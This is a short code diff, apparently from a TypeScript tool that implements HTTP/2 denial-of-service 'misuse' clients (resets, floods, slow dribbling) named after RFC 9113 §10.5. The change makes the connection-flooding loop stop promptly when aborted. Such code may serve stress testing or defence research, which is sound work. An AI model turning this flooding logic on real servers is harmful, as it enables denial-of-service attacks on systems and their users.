@@ -1,4 +1,5 @@
 /** Clients of HTTP/2 that reset, flood, dribble, take nothing, or do nothing (RFC 9113 §10.5). */
+import { once } from 'node:events'
 import {
   block,
   flags,
@@ -54,9 +55,11 @@ const misuse = (misused: Misuse): Attack => ({
       open.set(socket, 1)
       if (begin) socket.write(Buffer.concat(begin(1, target)))
     }
+    const ended = once(signal, 'abort')
     while (!signal.aborted) {
       const missing = Math.min(connections - open.size, 200)
-      await Promise.all(Array.from({ length: missing }, add))
+      // handshakes may take longer than the attack
+      await Promise.race([Promise.all(Array.from({ length: missing }, add)), ended])
       for (const [socket, first] of open) {
         if (!again || socket.writableLength > 0) continue
         socket.write(Buffer.concat(again(first, target)))
